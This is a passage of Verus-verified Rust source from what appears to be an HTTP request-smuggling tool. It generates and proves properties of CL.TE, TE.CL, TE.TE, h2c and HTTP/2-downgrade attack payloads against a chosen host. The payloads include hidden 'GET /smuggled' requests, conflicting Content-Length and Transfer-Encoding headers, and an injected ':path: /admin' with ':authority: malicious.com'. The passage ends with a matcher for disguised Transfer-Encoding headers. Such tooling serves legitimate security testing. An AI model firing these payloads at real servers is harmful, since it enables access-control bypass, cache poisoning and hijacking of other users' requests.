    push_str(list, "x_custom_header: value\r\nContent-Length: 0\r\n\r\n");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_underscore_name_tails());
}

/// A body after a `Content-Length` of zero.
pub open spec fn h2_body_after_zero_tails() -> Seq<Seq<char>> {
    seq![
        "Content-Length: 0\r\n\r\nunexpected body content"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_body_after_zero_tails(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_body_after_zero_tails(),
{
    push_str(list, "Content-Length: 0\r\n\r\nunexpected body content");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_body_after_zero_tails());
}

/// Settings, both body lengths and a hidden request, as a downgrade to HTTP/1.1 would pass them on.
pub open spec fn h2_downgrade_tails(host: Seq<char>) -> Seq<Seq<char>> {
    seq![
        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: "@ + host + "\r\n\r\n"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_downgrade_tails(list: &mut Vec<String>, host: &str)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_downgrade_tails(host@),
{
    push_between(list, "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ", host, "\r\n\r\n");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_downgrade_tails(host@));
}

/// A whole second request after the headers.
pub open spec fn h2_split_tails(host: Seq<char>) -> Seq<Seq<char>> {
    seq![
        "X-Custom: value\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: "@ + host + "\r\nContent-Length: 0\r\n\r\n"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_split_tails(list: &mut Vec<String>, host: &str)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_split_tails(host@),
{
    push_between(list, "X-Custom: value\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ", host, "\r\nContent-Length: 0\r\n\r\n");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_split_tails(host@));
}

/// Several pseudo-headers at once, with a chunked body, after the body, and with two lengths.
pub open spec fn h2_further_tails(host: Seq<char>) -> Seq<Seq<char>> {
    seq![
        ":method: GET\r\n:path: /admin\r\n:authority: malicious.com\r\nContent-Length: 0\r\n\r\n"@,
        ":method: POST\r\nTransfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\nG"@,
        "Content-Length: 0\r\n\r\n:path: /injected"@,
        ":authority: "@ + host + "\r\nContent-Length: 10\r\nContent-Length: 0\r\n\r\nsmuggled"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_further_tails(list: &mut Vec<String>, host: &str)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_further_tails(host@),
{
    push_str(list, ":method: GET\r\n:path: /admin\r\n:authority: malicious.com\r\nContent-Length: 0\r\n\r\n");
    push_str(list, ":method: POST\r\nTransfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\nG");
    push_str(list, "Content-Length: 0\r\n\r\n:path: /injected");
    push_between(list, ":authority: ", host, "\r\nContent-Length: 10\r\nContent-Length: 0\r\n\r\nsmuggled");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_further_tails(host@));
}

/// The ends of all H2 requests, in the order in which they are tried.
pub open spec fn h2_tails(path: Seq<char>, host: Seq<char>) -> Seq<Seq<char>> {
    h2_pseudo_header_tails(path, host)
        + h2_colon_name_tails()
        + h2_length_conflict_tails(host)
        + h2_newline_value_tails()
        + h2_transfer_encoding_tails()
        + h2_connection_specific_tails()
        + h2_recased_pseudo_tails()
        + h2_misordered_tails()
        + h2_underscore_name_tails()
        + h2_body_after_zero_tails()
        + h2_downgrade_tails(host)
        + h2_split_tails(host)
        + h2_further_tails(host)
}

/// The H2 requests: what a front end that speaks HTTP/2 may hand on to a back
/// end that speaks HTTP/1.1.
pub open spec fn h2_payloads_of(
    path: Seq<char>,
    host: Seq<char>,
    method: Seq<char>,
    custom_headers: Seq<Seq<char>>,
    cookies: Seq<Seq<char>>,
) -> Seq<Seq<char>> {
    prefixed(request_head(method, path, host, custom_headers, cookies), h2_tails(path, host))
}

/// Generates the H2 attack requests.
pub fn get_h2_payloads(
    path: &str,
    host: &str,
    method: &str,
    custom_headers: &[String],
    cookies: &[String],
) -> (payloads: Vec<String>)
    ensures
        texts_of(payloads@) == h2_payloads_of(
            path@,
            host@,
            method@,
            texts_of(custom_headers@),
            texts_of(cookies@),
        ),
        payloads.len() == 25,
{
    let head = make_request_head(method, path, host, custom_headers, cookies);
    let mut tails = fresh_list();
    push_h2_pseudo_header_tails(&mut tails, path, host);
    assert(texts_of(tails@) =~= h2_pseudo_header_tails(path@, host@));
    push_h2_colon_name_tails(&mut tails);
    push_h2_length_conflict_tails(&mut tails, host);
    push_h2_newline_value_tails(&mut tails);
    push_h2_transfer_encoding_tails(&mut tails);
    push_h2_connection_specific_tails(&mut tails);
    push_h2_recased_pseudo_tails(&mut tails);
    push_h2_misordered_tails(&mut tails);
    push_h2_underscore_name_tails(&mut tails);
    push_h2_body_after_zero_tails(&mut tails);
    push_h2_downgrade_tails(&mut tails, host);
    push_h2_split_tails(&mut tails, host);
    push_h2_further_tails(&mut tails, host);
    let payloads = prefix_each(head.as_str(), &tails);
    assert(texts_of(payloads@).len() == payloads.len());
    payloads
}

/// The request line: the method, the path and the protocol version.
pub open spec fn request_line(method: Seq<char>, path: Seq<char>) -> Seq<char> {
    method + " "@ + path + " HTTP/1.1\r\n"@
}

/// What begins a text also begins the text with more written after it.
pub proof fn lemma_prefix_extends(start: Seq<char>, text: Seq<char>, more: Seq<char>)
    requires
        start.is_prefix_of(text),
    ensures
        start.is_prefix_of(text + more),
{
    assert((text + more).subrange(0, start.len() as int) =~= text.subrange(0, start.len() as int));
}

/// Both beginnings of a request begin with the request line.
pub proof fn lemma_heads_begin_with_request_line(
    method: Seq<char>,
    path: Seq<char>,
    host: Seq<char>,
    custom_headers: Seq<Seq<char>>,
    cookies: Seq<Seq<char>>,
)
    ensures
        request_line(method, path).is_prefix_of(
            request_head(method, path, host, custom_headers, cookies),
        ),
        request_line(method, path).is_prefix_of(
            keep_alive_head(method, path, host, custom_headers, cookies),
        ),
        request_line(method, path).is_prefix_of(
            h2c_settings_first(path, host, method, custom_headers, cookies),
        ),
{
    reveal_strlit(" HTTP/1.1\r\n");
    reveal_strlit(" HTTP/1.1\r\nHost: ");
    reveal_strlit(" HTTP/1.1\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nHost: ");
    reveal_strlit("Host: ");
    reveal_strlit("HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nHost: ");
    let line = request_line(method, path);
    let begin = method + " "@ + path;
    assert(" HTTP/1.1\r\nHost: "@ =~= " HTTP/1.1\r\n"@ + "Host: "@);
    assert(" HTTP/1.1\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nHost: "@ =~= " HTTP/1.1\r\n"@
        + "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nHost: "@);
    assert(begin + " HTTP/1.1\r\nHost: "@ =~= line + "Host: "@);
    assert(begin + " HTTP/1.1\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nHost: "@ =~= line
        + "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nHost: "@);
    assert(line.is_prefix_of(line + "Host: "@)) by {
        assert((line + "Host: "@).subrange(0, line.len() as int) =~= line);
    }
    assert(line.is_prefix_of(line + "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nHost: "@)) by {
        assert((line + "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nHost: "@).subrange(
            0,
            line.len() as int,
        ) =~= line);
    }
    let with_host = line + "Host: "@;
    lemma_prefix_extends(line, with_host, host);
    lemma_prefix_extends(line, with_host + host, "\r\n"@);
    lemma_prefix_extends(line, with_host + host + "\r\n"@, custom_header_block(custom_headers));
    lemma_prefix_extends(
        line,
        with_host + host + "\r\n"@ + custom_header_block(custom_headers),
        cookie_block(cookies),
    );
    lemma_prefix_extends(line, with_host + host, "\r\nConnection: keep-alive\r\n"@);
    lemma_prefix_extends(
        line,
        with_host + host + "\r\nConnection: keep-alive\r\n"@,
        custom_header_block(custom_headers),
    );
    lemma_prefix_extends(
        line,
        with_host + host + "\r\nConnection: keep-alive\r\n"@ + custom_header_block(custom_headers),
        cookie_block(cookies),
    );
    let with_settings = line + "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nHost: "@;
    lemma_prefix_extends(line, with_settings, host);
    lemma_prefix_extends(line, with_settings + host, "\r\n"@);
    lemma_prefix_extends(line, with_settings + host + "\r\n"@, custom_header_block(custom_headers));
    lemma_prefix_extends(
        line,
        with_settings + host + "\r\n"@ + custom_header_block(custom_headers),
        cookie_block(cookies),
    );
    lemma_prefix_extends(
        line,
        with_settings + host + "\r\n"@ + custom_header_block(custom_headers) + cookie_block(
            cookies,
        ),
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nContent-Length: 0\r\n\r\n"@,
    );
}

/// How many requests a category has does not depend on the target: there are
/// as many CL.TE and TE.CL requests as header variations.
pub proof fn law_request_counts(
    path: Seq<char>,
    host: Seq<char>,
    method: Seq<char>,
    custom_headers: Seq<Seq<char>>,
    cookies: Seq<Seq<char>>,
)
    ensures
        te_header_texts().len() == 86,
        cl_te_payloads_of(path, host, method, custom_headers, cookies).len() == 86,
        te_cl_payloads_of(path, host, method, custom_headers, cookies).len() == 86,
        te_te_payloads_of(path, host, method, custom_headers, cookies).len() == 42,
        h2c_payloads_of(path, host, method, custom_headers, cookies).len() == 26,
        h2_payloads_of(path, host, method, custom_headers, cookies).len() == 25,
{
}

/// Every request of every category begins with the request line for the
/// method and the path that were given.
pub proof fn law_requests_begin_with_request_line(
    path: Seq<char>,
    host: Seq<char>,
    method: Seq<char>,
    custom_headers: Seq<Seq<char>>,
    cookies: Seq<Seq<char>>,
)
    ensures
        forall|i: int|
            0 <= i < cl_te_payloads_of(path, host, method, custom_headers, cookies).len()
                ==> request_line(method, path).is_prefix_of(
                #[trigger] cl_te_payloads_of(path, host, method, custom_headers, cookies)[i],
            ),
        forall|i: int|
            0 <= i < te_cl_payloads_of(path, host, method, custom_headers, cookies).len()
                ==> request_line(method, path).is_prefix_of(
                #[trigger] te_cl_payloads_of(path, host, method, custom_headers, cookies)[i],
            ),
        forall|i: int|
            0 <= i < te_te_payloads_of(path, host, method, custom_headers, cookies).len()
                ==> request_line(method, path).is_prefix_of(
                #[trigger] te_te_payloads_of(path, host, method, custom_headers, cookies)[i],
            ),
        forall|i: int|
            0 <= i < h2c_payloads_of(path, host, method, custom_headers, cookies).len()
                ==> request_line(method, path).is_prefix_of(
                #[trigger] h2c_payloads_of(path, host, method, custom_headers, cookies)[i],
            ),
        forall|i: int|
            0 <= i < h2_payloads_of(path, host, method, custom_headers, cookies).len()
                ==> request_line(method, path).is_prefix_of(
                #[trigger] h2_payloads_of(path, host, method, custom_headers, cookies)[i],
            ),
{
    lemma_heads_begin_with_request_line(method, path, host, custom_headers, cookies);
    let line = request_line(method, path);
    let head = request_head(method, path, host, custom_headers, cookies);
    let kept = keep_alive_head(method, path, host, custom_headers, cookies);
    assert forall|tail: Seq<char>| line.is_prefix_of(#[trigger] (head + tail)) by {
        lemma_prefix_extends(line, head, tail);
    }
    assert forall|tail: Seq<char>| line.is_prefix_of(#[trigger] (kept + tail)) by {
        lemma_prefix_extends(line, kept, tail);
    }
}


/// A lowercase text shows some form of a `Transfer-Encoding` header: the
/// name itself, with its hyphen replaced, or `Content-Encoding`; a
/// percent-encoded or MIME encoded form; the end of the name or a `chunked`
/// value behind what is left of it; or `chunked` together with a part of
/// either word.
pub open spec fn shows_te_header(lowered: Seq<char>) -> bool {
    ||| has_substring(lowered, "transfer-encoding"@)
    ||| has_substring(lowered, "transfer_encoding"@)
    ||| has_substring(lowered, "transfer encoding"@)
    ||| has_substring(lowered, "transfer\\encoding"@)
    ||| has_substring(lowered, "content-encoding"@)
    ||| has_substring(lowered, "transfer%"@)
    ||| has_substring(lowered, "=?"@)
    ||| has_substring(lowered, "nsfer-encoding"@)
    ||| has_substring(lowered, "encoding: chunked"@)
    ||| has_substring(lowered, "encoding:chunked"@)
    ||| has_substring(lowered, "encoding:\tchunked"@)
    ||| (has_substring(lowered, "chunked"@) && (has_substring(lowered, "encoding"@)
        || has_substring(lowered, "encod"@) || has_substring(lowered, "transf"@)))
}

/// Tells whether `part` occurs in the characters of a text.
fn holds(text: &Vec<char>, part: &str) -> (r: bool)
    ensures
        r == has_substring(text@, part@),
{
    let part = chars_of(part);
    contains_chars(text, &part)
}

/// Tells whether a text that is already in lower case shows some form of a
/// `Transfer-Encoding` header.
pub fn lowered_shows_te_header(lowered: &str) -> (r: bool)
    ensures
        r == shows_te_header(lowered@),
{
    let text = chars_of(lowered);
    if holds(&text, "transfer-encoding") || holds(&text, "transfer_encoding") || holds(
        &text,
        "transfer encoding",
    ) || holds(&text, "transfer\\encoding") || holds(&text, "content-encoding") {
        return true;
    }
    if holds(&text, "transfer%") || holds(&text, "=?") {
        return true;
    }
    if holds(&text, "nsfer-encoding") || holds(&text, "encoding: chunked") || holds(
        &text,
        "encoding:chunked",
    ) || holds(&text, "encoding:\tchunked") {
        return true;
    }
    if holds(&text, "chunked") {
        if holds(&text, "encoding") || holds(&text, "encod") || holds(&text, "transf") {
            return true;
        }
    }
    false
}

/// Tells whether a request shows some form of a `Transfer-Encoding` header,
/// whatever its case and however the header is disguised.
pub fn contains_te_header_pattern(payload: &str) -> (r: bool)
    ensures
        r == shows_te_header(lowercase(payload@)),
{
    let lowered = to_lowercase(payload);
    lowered_shows_te_header(lowered.as_str())
}


} // verus!
